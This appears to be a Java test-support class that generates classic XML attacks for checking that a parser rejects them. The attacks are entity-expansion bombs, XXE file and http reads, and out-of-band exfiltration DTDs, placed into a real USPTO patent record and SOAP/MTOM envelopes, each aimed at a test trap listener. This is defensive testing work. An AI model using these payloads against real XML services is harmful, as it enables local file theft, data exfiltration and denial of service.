package org.dossierlink.testsupport;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;

import org.dossierlink.Corpus;

/**
 * The classic XML attacks, each aimed at an {@link OutboundTrap}: as a DOCTYPE internal subset (for a SOAP
 * envelope or an office document), or inserted into a real USPTO Red Book grant, so the document is
 * otherwise legitimate. Every attack that names a target names the trap's listener or its secret file.
 */
public final class HostilePayloads {

    /** The real document the document attacks go into. */
    public static final String USPTO_SAMPLE = "uspto/redbook-samples/US08926509.xml";
    /** Its title, where the entity references go (so an expansion would land in the converted record). */
    public static final String USPTO_TITLE = "<invention-title id=\"d2e53\">";

    private HostilePayloads() {
    }

    /** One attack: a name, the internal subset it declares, and what it puts into the content. */
    public record Attack(String name, String internalSubset, String content, String expectedHint) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** Entity expansion and XXE attacks, as internal subset plus a reference in the content. */
    public static List<Attack> entityAttacks(OutboundTrap trap) {
        List<Attack> list = new ArrayList<>();
        StringBuilder lol = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            lol.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        list.add(new Attack("billion laughs", lol.toString(), "&lol9;", "entit"));
        // one 60 000-character entity referenced 4 000 times: 240 million characters, from 300 KB
        String big = "A".repeat(60_000);
        list.add(new Attack("quadratic blow-up", "<!ENTITY big \"" + big + "\">", "&big;".repeat(4_000), "entit"));
        list.add(new Attack("recursive entities", "<!ENTITY a \"x&b;\"><!ENTITY b \"y&a;\">", "&a;", "ecursi"));
        StringBuilder chain = new StringBuilder("<!ENTITY d0 \"deep\">");
        for (int i = 1; i <= 300; i++) {
            chain.append("<!ENTITY d").append(i).append(" \"&d").append(i - 1).append(";&d").append(i - 1).append(";\">");
        }
        list.add(new Attack("deep indirection", chain.toString(), "&d300;", "entit"));
        list.add(new Attack("XXE file", "<!ENTITY xxe SYSTEM \"" + trap.fileUrl() + "\">", "&xxe;", "refused"));
        list.add(new Attack("XXE http", "<!ENTITY xxe SYSTEM \"" + trap.http("/xxe") + "\">", "&xxe;", "refused"));
        list.add(new Attack("XXE parameter entity", "<!ENTITY % pe SYSTEM \"" + trap.http("/pe.dtd") + "\"> %pe;", "",
                "refused"));
        list.add(new Attack("out-of-band exfiltration",
                "<!ENTITY % file SYSTEM \"" + trap.fileUrl() + "\">"
                        + "<!ENTITY % remote SYSTEM \"" + trap.http("/evil.dtd") + "\"> %remote; %send;", "", "refused"));
        list.add(new Attack("inline out-of-band exfiltration",
                "<!ENTITY % file SYSTEM \"" + trap.fileUrl() + "\">"
                        + "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + trap.http("/?d=%file;") + "'>\"> %wrap; %send;",
                "", "parameter entity"));
        return list;
    }

    /** A SOAP envelope of version {@code v} with the attack's DOCTYPE and its content inside the operation element. */
    public static String envelopeWithDoctype(RawSoap.Version v, String doctype, String operationElement) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype
                + RawSoap.envelope(v, operationElement).substring("<?xml version=\"1.0\" encoding=\"UTF-8\"?>".length());
    }

    /** The USPTO sample, as it is in the corpus. */
    public static String usptoSample() {
        try {
            return Files.readString(Corpus.file(USPTO_SAMPLE), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The USPTO sample with the attack in its internal subset and its content at the start of the title. */
    public static String usptoWith(Attack attack) {
        String doc = usptoSample();
        String withSubset = doc.replace("\"us-patent-grant-v45-2014-04-03.dtd\" [ ]>",
                "\"us-patent-grant-v45-2014-04-03.dtd\" [ " + attack.internalSubset() + " ]>");
        if (withSubset.equals(doc) || !doc.contains(USPTO_TITLE)) {
            throw new IllegalStateException("the corpus sample changed: no empty internal subset or title to attack");
        }
        return withSubset.replace(USPTO_TITLE, USPTO_TITLE + attack.content());
    }

    /** The USPTO sample whose DOCTYPE names a DTD at {@code systemId} instead of its own. */
    public static String usptoWithDoctypeSystemId(String systemId) {
        return usptoSample().replace("\"us-patent-grant-v45-2014-04-03.dtd\"", "\"" + systemId + "\"");
    }

    /** The USPTO sample with markup inserted at the start of its title. */
    public static String usptoWithTitleMarkup(String markup) {
        return usptoSample().replace(USPTO_TITLE, USPTO_TITLE + markup);
    }

    /** The USPTO sample with a prolog line (a processing instruction) right after its XML declaration. */
    public static String usptoWithProlog(String prolog) {
        String doc = usptoSample();
        int end = doc.indexOf("?>") + 2;
        return doc.substring(0, end) + "\n" + prolog + doc.substring(end);
    }

    /** A multipart/related MTOM body: the XML root part, then the given attachments. */
    public record Multipart(String contentType, byte[] body) {
    }

    public static Multipart mtom(RawSoap.Version v, String rootXml, List<byte[]> attachments, List<String> contentIds) {
        String boundary = "uuid:hostile-" + System.nanoTime();
        String rootType = v == RawSoap.Version.SOAP11 ? "text/xml" : "application/soap+xml";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(out, "--" + boundary + "\r\n"
                + "Content-Type: application/xop+xml; charset=UTF-8; type=\"" + rootType + "\"\r\n"
                + "Content-Transfer-Encoding: binary\r\n"
                + "Content-ID: <root.message@cxf.apache.org>\r\n\r\n");
        write(out, rootXml);
        for (int i = 0; i < attachments.size(); i++) {
            write(out, "\r\n--" + boundary + "\r\n"
                    + "Content-Type: application/octet-stream\r\n"
                    + "Content-Transfer-Encoding: binary\r\n"
                    + "Content-ID: <" + contentIds.get(i) + ">\r\n\r\n");
            out.writeBytes(attachments.get(i));
        }
        write(out, "\r\n--" + boundary + "--\r\n");
        String type = "multipart/related; type=\"application/xop+xml\"; boundary=\"" + boundary
                + "\"; start=\"<root.message@cxf.apache.org>\"; start-info=\"" + rootType + "\"";
        return new Multipart(type, out.toByteArray());
    }

    private static void write(ByteArrayOutputStream out, String s) {
        out.writeBytes(s.getBytes(StandardCharsets.UTF_8));
    }
}
